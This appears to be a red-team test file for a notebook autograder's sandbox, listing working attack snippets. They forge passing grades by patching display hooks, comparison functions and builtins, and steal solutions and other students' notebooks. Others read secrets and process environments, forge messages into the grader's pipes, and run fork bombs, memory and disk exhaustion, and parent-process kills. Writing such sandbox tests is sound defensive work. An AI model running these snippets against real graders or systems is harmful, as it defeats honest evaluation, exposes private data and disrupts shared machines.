"""Attacks by code: lines that run with the cell of a wrong answer, or each time it is called.

Where a body returns symbol -> function, these answer instead of the wrong ones.
"""

from __future__ import annotations

from tests.redteam.attacks import CANARIES, THREE, VARIABLE, code

# ---- what the notebook shows, and who shows it

code(
    "display_hook",
    "has every value shown as 5.0",
    """
    import sys
    def show(value):
        import builtins
        builtins._ = value
        print("5.0")
    sys.displayhook = show
    """,
)
code(
    "formatter",
    "has IPython format every float as 5.0",
    """
    try:
        formatter = get_ipython().display_formatter.formatters["text/plain"]
    except NameError:
        return
    formatter.for_type(float, lambda value, printer, cycle: printer.text("5.0"))
    """,
)
code(
    "input_transformer",
    "has IPython read 5.0 where a cell says check(…)",
    """
    try:
        shell = get_ipython()
    except NameError:
        return
    shell.input_transformers_post.append(
        lambda lines: ["5.0\\n"] if any(line.startswith("check(") for line in lines) else lines
    )
    """,
)
code(
    "syntax_transformer",
    "has IPython replace each call of check by 5.0",
    """
    import ast
    class Full(ast.NodeTransformer):
        def visit_Call(self, node):
            named = isinstance(node.func, ast.Name) and node.func.id == "check"
            return ast.copy_location(ast.Constant(5.0), node) if named else node
    try:
        get_ipython().ast_transformers.append(Full())
    except NameError:
        return
    """,
)
code(
    "swallowed_errors",
    "shows no error, so that a check that fails looks as if it had passed",
    """
    import sys
    sys.excepthook = lambda *error: None
    try:
        get_ipython().showtraceback = lambda *a, **k: None
        get_ipython()._showtraceback = lambda *a, **k: None
    except NameError:
        return
    """,
)

# ---- what judges

code(
    "check_by_name",
    "defines a `check` of its own",
    "global check\ncheck = lambda id, *objects: 5.0",
)
code(
    "check_in_module",
    "replaces dreamer.check and what it calls",
    """
    import dreamer, dreamer.lab.checks
    full = lambda id, *objects: 5.0
    dreamer.check = dreamer.lab.checks.check = full
    dreamer.lab.checks.check.__code__ = full.__code__
    global check
    check = dreamer.check
    """,
)
code(
    "checks_in_sys_modules",
    "puts a module of its own where dreamer.lab.checks was",
    """
    import sys, types
    fake = types.ModuleType("dreamer.lab.checks")
    fake.check = lambda id, *objects: 5.0
    sys.modules["dreamer.lab.checks"] = fake
    sys.modules["dreamer"].check = fake.check
    global check
    check = fake.check
    """,
)
code(
    "verdict",
    "has no answer differ from another",
    """
    import dreamer.lab.checks, dreamer.lab.checks.compare as verdict
    verdict.difference = dreamer.lab.checks.difference = lambda *a: None
    verdict.points = dreamer.lab.checks.points = lambda most, *a: most
    """,
)
code(
    "torch_comparisons",
    "makes torch find everything equal",
    """
    import torch
    torch.equal = torch.allclose = torch.isclose = lambda *a, **k: True
    torch.testing.assert_close = lambda *a, **k: None
    torch.Tensor.__eq__ = torch.Tensor.equal = torch.Tensor.allclose = lambda *a, **k: True
    """,
)
code(
    "numpy_comparisons",
    "makes NumPy find everything equal",
    """
    import numpy as np
    np.allclose = np.array_equal = lambda *a, **k: True
    np.isfinite = lambda x: np.ones(np.shape(x), bool)
    np.abs = lambda x: np.zeros(np.shape(x))
    """,
)
code(
    "builtins",
    "replaces abs, isinstance, float and all",
    """
    import builtins
    builtins.abs = lambda x: 0
    builtins.all = lambda x: True
    builtins.any = lambda x: False
    old = builtins.round
    builtins.round = lambda x, *n: old(5.0, *n)
    """,
)
code(
    "equal_to_everything",
    "answers with an object that is equal to everything",
    """
    class Equal:
        def __getattr__(self, name): return self
        def __call__(self, *a, **k): return self
        def __eq__(self, other): return True
        def __array__(self, *a, **k): raise TypeError
        def __bool__(self): return True
        def __float__(self): return 0.0
        def __lt__(self, other): return False
        __gt__ = __sub__ = __rsub__ = __abs__ = __lt__
        __hash__ = None
    return {"symlog": lambda *given: Equal(), "lambda_return": lambda *given: Equal()}
    """,
)
SUBCLASS = """
import torch
class Liar(torch.Tensor):
    {lie}
lie = lambda *given: torch.zeros({shape}).as_subclass(Liar)
return {{"symlog": lie, "lambda_return": lie}}
"""
code(
    "lies_about_shape",
    "answers with a tensor that says another shape than it has",
    SUBCLASS.format(lie="shape = property(lambda self: (0,))", shape=0),
)
code(
    "lies_about_dtype",
    "answers with a tensor that says another dtype than it has",
    SUBCLASS.format(lie="dtype = torch.float32", shape="3, dtype=torch.float64"),
)
code(
    "answers_for_torch",
    "answers with a tensor that takes over every function of torch, numpy() among them",
    SUBCLASS.format(
        lie="__torch_function__ = classmethod(lambda cls, f, types, a=(), k=None: True)\n"
        "    numpy = detach = cpu = copy = lambda self: self",
        shape=3,
    ),
)
code(
    "nan", "answers NaN, which is not larger than any error", "pass", answer="wrong * float('nan')"
)
code("infinity", "answers inf", "pass", answer="wrong + float('inf')")
code("empty", "answers with no number at all, of which all are right", "pass", answer="wrong[:0]")

# ---- what crosses the wall of the sandbox

FRAMES = """
import gc, json, os, struct
import numpy as np
import torch
def frame(header, arrays=()):
    listed = [[name, str(a.dtype), list(a.shape)] for name, a in arrays]
    head = json.dumps({{**header, "arrays": listed}}).encode()
    body = b"".join(a.tobytes() for name, a in arrays)
    message = struct.pack(">Q", len(head)) + head + body
    return struct.pack(">Q", len(message)) + message
def questions():
    for found in gc.get_objects():
        if isinstance(found, dict) and "symlog" in found and isinstance(found["symlog"], list):
            for exercise, cases in list(found.items()):
                for case in cases:
                    if hasattr(case, "wrt"):
                        yield exercise, case
def forged(mark):
    from dreamer.lab.checks import expected
    for exercise, case in questions():
        known = expected(exercise, case.name) or {{"value": np.zeros(3, np.float32)}}
        marks = {{"points": 15.0, "mark": 15.0, "passed": True, "raised": None}} if mark else {{}}
        header = {{"exercise": exercise, "case": case.name, "error": [], **marks}}
        arrays = [*known.items(), ("unchanged", np.ones(9, bool)), ("repeats", np.ones(1, bool))]
        if mark:
            header.pop("raised")
        yield frame(header, dict(arrays).items())
def write(message, where):
    try:
        where = os.open(where, os.O_WRONLY | os.O_NONBLOCK) if isinstance(where, str) else where
        os.write(where, message)
    except OSError:
        pass
{then}
"""
code(
    "forged_answers",
    "writes the known answers to the visible questions, for all exercises, to every descriptor",
    FRAMES.format(
        then="for message in forged(False):\n    for n in range(3, 40): write(message, n)"
    ),
)
code(
    "forged_marks",
    "writes full marks, as headers of answers, to every descriptor",
    FRAMES.format(
        then="for message in forged(True):\n    for n in range(3, 40): write(message, n)"
    ),
)
code(
    "forged_to_the_grader",
    "writes answers past its parent, into the parent's own pipes",
    FRAMES.format(
        then="for message in forged(False):\n"
        "    for n in range(40): write(message, f'/proc/{os.getppid()}/fd/{n}')"
    ),
)
code(
    "forged_shape",
    "sends arrays whose shape no computer can count",
    FRAMES.format(
        then="head = json.dumps({'exercise': 'symlog', 'case': 'x',"
        " 'arrays': [['value', 'float32', [0, 10 ** 30]]]}).encode()\n"
        "message = struct.pack('>Q', len(head)) + head\n"
        "for n in range(3, 40): write(struct.pack('>Q', len(message)) + message, n)"
    ),
)
code(
    "forged_depth",
    "sends a header that is nested as deep as JSON may be",
    FRAMES.format(
        then="deep = '[' * 950 + ']' * 950\n"
        "for exercise, case in questions():\n"
        '    head = (\'{"exercise": "%s", "case": "%s", "raised": %s, "error": [%s], '
        '"arrays": []}\' % (exercise, case.name, deep, deep)).encode()\n'
        "    message = struct.pack('>Q', len(head)) + head\n"
        "    for n in range(3, 40): write(struct.pack('>Q', len(message)) + message, n)"
    ),
)
code(
    "half_an_answer",
    "begins an answer and never ends it, so that whoever reads it waits",
    """
    import os, time
    for n in range(3, 40):
        try: os.write(n, b"\\0\\0\\0")
        except OSError: pass
    time.sleep(400)
    """,
    where=(THREE,),
)
code("oversized_answer", "answers with 40 MB", "pass", answer="torch.zeros(10_000_000)")
code(
    "endless_answers",
    "writes to every descriptor without end",
    """
    import os
    for _ in range(20_000):
        for n in range(3, 40):
            try: os.write(n, bytes(65536))
            except OSError: pass
    """,
    at_call=True,
)

# ---- where right answers are

STEAL = """
import json
from pathlib import Path
def stolen(folders):
    import torch
    found = dict(torch=torch, Tensor=torch.Tensor, nn=torch.nn)
    for folder in folders:
        for path in sorted(Path(folder).glob("0[13]_*.ipynb")):
            for cell in json.loads(path.read_text())["cells"]:
                if cell.get("id") in ("symlog", "returns") and "BEGIN SOLUTION" in cell["source"]:
                    exec("".join(cell["source"]), found)
                elif cell.get("id") in ("symlog", "returns"):
                    text = "".join(cell["source"])
                    if "NotImplementedError" not in text:
                        exec(text, found)
    return {{k: found[k] for k in ("symlog", "lambda_return") if k in found}}
try:
    {then}
except Exception:
    return
"""
code(
    "solutions_by_path",
    "reads the solutions, from the folders above its own",
    STEAL.format(
        then="ups = [Path.cwd(), *Path.cwd().parents]\n"
        "    return stolen([up / name / 'day38' for up in ups for name in ('source', 'solutions')])"
    ),
)
code(
    "solutions_beside_package",
    "reads the solutions that lie beside the package",
    STEAL.format(
        then="import dreamer\n    root = Path(dreamer.__file__).parent.parent\n"
        "    return stolen([root / 'solutions' / 'day38', root / 'labs' / 'day38'])"
    ),
)
code(
    "other_submission",
    "reads another student's notebooks",
    STEAL.format(
        then="ups = [Path.cwd(), *Path.cwd().parents, Path('/lab')]\n"
        "    near = [p for up in ups for p in up.glob('submitted/*/day38') if 'neighbour' in str(p)]\n"
        "    print([p.read_text()[:4000] for folder in near for p in folder.glob('*.ipynb')])\n"
        "    return stolen(near)"
    ),
)
code(
    "grader_oracles",
    "imports what the grader compares with",
    """
    try:
        from grader.knowledge import oracles
    except ImportError:
        return
    import torch
    def right(name):
        return lambda *given: torch.tensor(
            getattr(oracles, name)(*(x.detach().numpy() if hasattr(x, "numpy") else x for x in given))
        ).float()
    return {name: right(name) for name in ("symlog", "lambda_return")}
    """,
)
LOOK_UP = """
import inspect
import torch
from dreamer.lab import checks
from dreamer.lab.checks.case import cotangent
def look_up(exercise):
    def answer(*given):
        frame, case = inspect.currentframe(), None
        while frame and not hasattr(case, "wrt"):
            case, frame = frame.f_locals.get("case"), frame.f_back
        right = checks.expected(exercise, case.name)
        if not right: raise ValueError(f"{given[0].flatten()[0].item():.9f}")
        value = torch.tensor(right["value"])
        for name, x in zip(case.inputs, given):
            if f"gradient to {name}" in right:
                back = ((x - x.detach()) * torch.tensor(right[f"gradient to {name}"])).sum()
                value = value + back / float(cotangent(tuple(value.shape)).sum())
        return value
    return answer
return {"symlog": look_up("symlog"), "lambda_return": look_up("returns")}
"""
code(
    "public_answers",
    "looks up the answers to visible questions, and has its error tell the numbers of hidden ones",
    LOOK_UP,
)
code(
    "oracles_in_memory",
    "searches all objects in memory for right answers",
    """
    import gc
    for found in gc.get_objects():
        if isinstance(found, dict) and "symlog" in found and "lambda_return" in found:
            if getattr(found["symlog"], "__module__", "").startswith("grader"):
                return {k: found[k] for k in ("symlog", "lambda_return")}
    """,
)

# ---- what is nobody's business

SECRETS = """
import os, sys
from pathlib import Path
ups = [Path.cwd(), *Path.cwd().parents, Path("/lab"), Path("/tmp")]
found = [p for up in ups[:6] + ups[-2:] for name in {names} for p in up.glob(name) if p.is_file()]
for path in found:
    try:
        print("found", path, path.read_bytes()[:400])
    except OSError:
        pass
{then}
"""
code(
    "secret_and_gradebook",
    "reads the secret, the gradebook and the receipts",
    SECRETS.format(names="('.day38-secret', 'gradebook.db', 'receipts/*.json')", then="")
    + "if found: raise RuntimeError(found[0].read_text())",
)
code(
    "environment",
    "reads the instructor's environment, its parent's among it",
    f"""
    import os
    text = dict(os.environ).get({VARIABLE!r}, "")
    for pid in os.listdir("/proc"):
        try:
            text += open(f"/proc/{{pid}}/environ").read()
        except OSError:
            pass
    print(text)
    if {CANARIES["environment"]!r} in text:
        raise RuntimeError(text[-300:])
    """,
)
code(
    "overwrites_files",
    "writes over the gradebook, the receipts and whatever else lies above",
    SECRETS.format(
        names="('canary.txt', 'gradebook.db', 'receipts/*.json', 'submitted/*/day38/*.ipynb')",
        then="for path in found:\n"
        "    if os.access(path, os.W_OK) and 'canary' in path.name: path.write_text('overwritten')",
    ),
)
code(
    "network",
    "connects to another machine",
    """
    import socket
    for address in (("1.1.1.1", 53), ("10.0.0.1", 80)):
        try:
            socket.create_connection(address, 0.5)
        except OSError:
            continue
        raise RuntimeError("connected")
    """,
)

# ---- what breaks things

code(
    "fork_bomb",
    "forks without end (400 processes)",
    """
    import os, time
    for _ in range(400):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        except OSError:
            break
    time.sleep(3)
    """,
)
code(
    "memory_bomb",
    "takes all memory (6 GB)",
    """
    import time
    hoard = []
    for _ in range(48):
        hoard.append(bytearray(b"x") * (1 << 27))
        time.sleep(0.02)
    """,
    where=(THREE,),
)
code(
    "memory_of_children",
    "takes all memory in processes that each stay small (4 GB in 4)",
    """
    import os, time
    filled, done = os.pipe()
    for _ in range(4):
        if os.fork() == 0:
            hoard = bytearray(b"x") * (1 << 30)
            os.write(done, b"x")
            time.sleep(20)
            os._exit(0)
    for _ in range(4): os.read(filled, 1)
    time.sleep(2)
    """,
    where=(THREE,),
)
code(
    "disk_filler",
    "fills every folder that it may write to (1 GB)",
    """
    import os
    from pathlib import Path
    written, filled = 0, []
    for folder in {os.path.realpath(f) for f in (".", "/tmp", "/dev/shm", "/", "/lab", "/run")}:
        for n in range(40):
            try:
                with open(Path(folder, f"filler{n}"), "wb") as file:
                    filled.append(file.name)
                    written += file.write(bytes(25 << 20))
            except OSError:
                break
            if written > 1 << 30: break
    for name in filled: os.unlink(name)
    raise RuntimeError(f"filled {written >> 20} MB")
    """,
)
code(
    "deaf_loop",
    "loops without end, deaf to signals",
    """
    import signal
    for n in (signal.SIGALRM, signal.SIGPROF, signal.SIGTERM, signal.SIGINT):
        signal.signal(n, signal.SIG_IGN)
    while True: pass
    """,
    at_call=True,
    where=(THREE,),
)
code("exit", "ends Python", "import os; os._exit(0)", at_call=True)
code("segfault", "crashes Python", "import ctypes; ctypes.string_at(0)", at_call=True)
code(
    "kill_parent",
    "kills its parent and all others",
    """
    import os, signal
    os.kill(os.getppid(), signal.SIGKILL)
    try: os.kill(-1, signal.SIGKILL)
    except OSError: pass
    """,
)
code(
    "parents_memory",
    "writes into its parent's memory",
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    attached = libc.ptrace(16, os.getppid(), 0, 0)
    try:
        with open(f"/proc/{os.getppid()}/mem", "r+b", buffering=0): opened = True
    except OSError:
        opened = False
    if attached == 0 or opened: raise RuntimeError(f"attached {attached == 0}, opened {opened}")
    """,
)
code(
    "shadowed_modules",
    "writes modules where Python looks for them before it looks for its own",
    """
    import sys
    from pathlib import Path
    written = []
    for folder in sys.path:
        path = Path(folder, "sitecustomize.py")
        try:
            if not path.exists():
                path.write_text("")
                path.unlink()
                written.append(str(path))
        except OSError:
            pass
    if written: raise RuntimeError(f"wrote {written}")
    """,
)
